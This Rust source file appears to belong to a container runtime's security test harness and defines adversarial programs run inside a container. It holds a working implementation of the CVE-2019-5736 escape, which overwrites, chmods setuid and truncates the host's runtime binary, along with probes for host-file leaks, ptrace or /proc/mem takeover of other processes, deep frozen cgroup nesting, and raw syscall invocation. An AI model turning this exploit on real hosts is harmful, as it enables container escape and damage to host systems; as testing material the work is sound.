//! Programs that run in the container: this very program, mounted there.

use crate::harness::Container;
use std::ffi::CString;
use std::fs;
use std::io;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::ffi::OsStrExt;
use std::path::Path;
use std::process::ExitCode;

/// Where it is mounted.
pub const PATH: &str = "/hostile";

/// The program that the command line asks for: `hostile inside NAME ...`.
pub fn requested() -> Option<fn() -> ExitCode> {
    let words: Vec<String> = std::env::args().skip(1).take(2).collect();
    match words.iter().map(String::as_str).collect::<Vec<_>>()[..] {
        ["inside", "watch"] => Some(watch),
        ["inside", "overwrite"] => Some(overwrite),
        ["inside", "call"] => Some(call),
        ["inside", "labels"] => Some(labels),
        ["inside", "nest"] => Some(nest),
        _ => None,
    }
}

/// Has the container run one of them, with these arguments.
pub fn run(c: &mut Container, words: &[&str]) {
    let own = std::env::current_exe().unwrap();
    c.mount(PATH, "bind", own.to_str().unwrap(), &["bind", "ro"]);
    let words = [PATH, "inside"].into_iter().chain(words.iter().copied());
    c.args(words);
}

/// `nest CGROUP...`: nests cgroups in each of these until no path is long enough for the last,
/// with a process in it that is frozen there, if it can be frozen; says which, and stays.
fn nest() -> ExitCode {
    const DEPTH: usize = 1000;
    let name = "n".repeat(64);
    let sleeper = std::process::Command::new("sleep").arg("1000").spawn();
    let pid = sleeper.unwrap().id().to_string();
    for top in std::env::args().skip(3) {
        std::env::set_current_dir(&top).unwrap();
        for _ in 0..DEPTH {
            fs::create_dir(&name).unwrap();
            std::env::set_current_dir(&name).unwrap();
        }
        fs::write("cgroup.procs", &pid).unwrap();
        for (file, value) in [("freezer.state", "FROZEN"), ("cgroup.freeze", "1")] {
            if fs::exists(file).unwrap() {
                fs::write(file, value).unwrap();
            }
        }
    }
    println!("nested {pid}");
    std::thread::sleep(std::time::Duration::from_secs(1000));
    ExitCode::FAILURE
}

fn argument(index: usize) -> String {
    std::env::args().nth(index + 3).unwrap_or_default()
}

/// The processes beside this one.
fn others() -> impl Iterator<Item = i32> {
    let numbers = fs::read_dir("/proc").unwrap().flatten();
    numbers
        .filter_map(|entry| entry.file_name().to_str()?.parse().ok())
        .filter(|&pid| pid != std::process::id() as i32)
}

fn open(path: &str, flags: i32) -> io::Result<OwnedFd> {
    let path = CString::new(path).unwrap();
    // SAFETY: the path is terminated and outlives the call.
    match unsafe { libc::open(path.as_ptr(), flags | libc::O_CLOEXEC) } {
        -1 => Err(io::Error::last_os_error()),
        // SAFETY: it was just opened, and nobody else has it.
        fd => Ok(unsafe { OwnedFd::from_raw_fd(fd) }),
    }
}

/// `watch CANARY`: looks at every process that turns up, as pid 1 with all that tracing takes,
/// and says what it gets by it that is not the container's own: a file of the host by its root,
/// its directory or its descriptors, or a descriptor or capability that we do not have.
fn watch() -> ExitCode {
    let canary = argument(0);
    println!("ready");
    loop {
        for pid in others() {
            look_at(pid, &canary);
        }
    }
}

fn look_at(pid: i32, canary: &str) {
    let up = "../".repeat(20);
    let from_root = canary.trim_start_matches('/');
    let mut places = vec![format!("/proc/{pid}/root"), format!("/proc/{pid}/cwd")];
    for entry in fs::read_dir(format!("/proc/{pid}/fd"))
        .into_iter()
        .flatten()
        .flatten()
    {
        let place = entry.path().to_str().unwrap().to_owned();
        let number = entry
            .file_name()
            .to_str()
            .and_then(|name| name.parse().ok());
        let target = fs::read_link(&place).unwrap_or_default();
        let target = target.to_string_lossy();
        // By its socket it hears and speaks of itself alone.
        let is_expected = number.is_none_or(|number: u32| number < 3)
            || target.is_empty()
            || target.starts_with("socket:");
        if !is_expected && !is_own_program(pid) {
            println!("{place} is {target}");
        }
        places.push(place);
    }
    for place in places {
        for path in [
            format!("{place}/{from_root}"),
            format!("{place}/{up}{from_root}"),
        ] {
            if open(&path, libc::O_RDONLY).is_ok() {
                println!("the host's file is {path}");
            }
        }
    }
    if can_take_over(pid) {
        let (own, theirs) = (capabilities("self"), capabilities(&pid.to_string()));
        if theirs
            .iter()
            .zip(&own)
            .any(|(theirs, own)| theirs & !own != 0)
        {
            println!("{pid} has the capabilities {theirs:x?}, which we lack");
        }
    }
}

/// Whether it executes a program of the container's by now.
fn is_own_program(pid: i32) -> bool {
    fs::read_link(format!("/proc/{pid}/exe"))
        .is_ok_and(|exe| exe.starts_with("/bin") || exe == Path::new(PATH))
}

/// Whether its memory can be written, or it can be traced: then all that it has is ours.
fn can_take_over(pid: i32) -> bool {
    if open(&format!("/proc/{pid}/mem"), libc::O_RDWR).is_ok() {
        return true;
    }
    // SAFETY: no memory is passed.
    let is_traced = unsafe { libc::ptrace(libc::PTRACE_SEIZE, pid, 0, 0) } == 0;
    if is_traced {
        // SAFETY: as above. What runs on cannot be let go (ptrace(2), ESRCH), so it is stopped.
        unsafe {
            libc::ptrace(libc::PTRACE_INTERRUPT, pid, 0, 0);
            libc::waitpid(pid, std::ptr::null_mut(), libc::__WALL);
            libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0);
        }
    }
    is_traced
}

/// The inheritable, permitted, effective and bounding set of a process.
fn capabilities(pid: &str) -> Vec<u64> {
    let status = fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    let sets = ["CapInh", "CapPrm", "CapEff", "CapBnd"];
    let lines = status.lines().filter_map(|line| line.split_once(":\t"));
    lines
        .filter(|(key, _)| sets.contains(key))
        .map(|(_, set)| u64::from_str_radix(set, 16).unwrap())
        .collect()
}

/// The published exploit of CVE-2019-5736: keeps a descriptor of the program of whatever turns
/// up, and tries for a while to write to it. Says what it caught and what it could open.
fn overwrite() -> ExitCode {
    let own = fs::metadata("/proc/self/exe")
        .map(|meta| inode(&meta))
        .unwrap();
    println!("ready");
    loop {
        for pid in others() {
            let path = format!("/proc/{pid}/exe");
            let Ok(caught) = open(&path, libc::O_PATH) else {
                continue;
            };
            let magic = format!("/proc/self/fd/{}", caught.as_raw_fd());
            let is_ours = |meta| inode(&meta) == own;
            let target = fs::read_link(&magic).unwrap_or_default();
            if fs::metadata(&magic).map_or(true, is_ours) || target.starts_with("/bin") {
                continue;
            }
            println!("caught {}", target.display());
            write_to(&magic);
        }
    }
}

fn inode(meta: &fs::Metadata) -> (u64, u64) {
    use std::os::unix::fs::MetadataExt;
    (meta.dev(), meta.ino())
}

fn write_to(magic: &str) {
    // While it is executed it is ETXTBSY for everybody; that passes with the process.
    for _ in 0..2000 {
        if let Ok(writable) = open(magic, libc::O_WRONLY) {
            // A sealed file can be opened for writing, and yet not be written to.
            // SAFETY: the bytes outlive the call.
            if unsafe { libc::write(writable.as_raw_fd(), b"pwned".as_ptr().cast(), 5) } > 0 {
                println!("written");
            }
        }
        let path = CString::new(Path::new(magic).as_os_str().as_bytes()).unwrap();
        // SAFETY: the path is terminated.
        unsafe { libc::chmod(path.as_ptr(), 0o4777) };
        // SAFETY: as above.
        if unsafe { libc::truncate(path.as_ptr(), 0) } == 0 {
            println!("truncated");
        }
    }
}

/// `labels`: prints the security labels of this process and of its session keyring.
fn labels() -> ExitCode {
    const KEYCTL_GET_SECURITY: libc::c_int = 17;
    const SESSION_KEYRING: libc::c_int = -3;
    let own = fs::read_to_string("/proc/self/attr/current").unwrap();
    let mut label = [0_u8; 256];
    // SAFETY: the kernel writes no more than the size that it is told.
    let length = unsafe {
        let (place, size) = (label.as_mut_ptr(), label.len());
        libc::syscall(
            libc::SYS_keyctl,
            KEYCTL_GET_SECURITY,
            SESSION_KEYRING,
            place,
            size,
        )
    };
    let length = usize::try_from(length).expect("the label of the session keyring");
    println!("{}", own.trim_end_matches(['\0', '\n']));
    println!(
        "{}",
        String::from_utf8_lossy(&label[..length]).trim_end_matches('\0')
    );
    ExitCode::SUCCESS
}

/// `call FILE`: makes the system calls of a file, a line for each ("NUMBER ARG...", or "i386
/// NUMBER"), in a process each, and prints what became of it: "0", "errno 1" or "signal 31".
fn call() -> ExitCode {
    let list = fs::read_to_string(argument(0)).unwrap();
    for line in list.lines() {
        println!("{}", outcome(line));
    }
    ExitCode::SUCCESS
}

fn outcome(line: &str) -> String {
    let (i386, line) = match line.strip_prefix("i386 ") {
        Some(rest) => (true, rest),
        None => (false, line),
    };
    let mut words = [0; 7];
    for (word, text) in words.iter_mut().zip(line.split(' ')) {
        *word = text.parse::<u64>().unwrap();
    }
    // SAFETY: this program has one thread.
    match unsafe { libc::fork() } {
        0 => {
            let errno = if i386 {
                call_i386(words[0])
            } else {
                call_native(words)
            };
            // SAFETY: it does not return.
            unsafe { libc::_exit(errno) }
        }
        child => {
            let mut status = 0;
            // SAFETY: the status outlives the call.
            unsafe { libc::waitpid(child, &raw mut status, 0) };
            match (libc::WIFSIGNALED(status), libc::WEXITSTATUS(status)) {
                (true, _) => format!("signal {}", libc::WTERMSIG(status)),
                (false, 0) => "0".into(),
                (false, errno) => format!("errno {errno}"),
            }
        }
    }
}

fn call_native([number, a, b, c, d, e, f]: [u64; 7]) -> i32 {
    // SAFETY: those who ask for it name calls that look at no argument.
    match unsafe { libc::syscall(number as libc::c_long, a, b, c, d, e, f) } {
        -1 => io::Error::last_os_error().raw_os_error().unwrap_or(255),
        _ => 0,
    }
}

/// By the interface of 32-bit programs, which a 64-bit one can use as well.
#[cfg(target_arch = "x86_64")]
fn call_i386(number: u64) -> i32 {
    let mut result = number as u32;
    // SAFETY: the call looks at no argument; the kernel keeps all registers but these.
    unsafe {
        std::arch::asm!("int 0x80", inout("eax") result, out("r8") _, out("r9") _, out("r10") _,
                        out("r11") _);
    }
    let result = result.cast_signed();
    if (-4095..0).contains(&result) {
        -result
    } else {
        0
    }
}

#[cfg(not(target_arch = "x86_64"))]
fn call_i386(_: u64) -> i32 {
    libc::ENOSYS
}
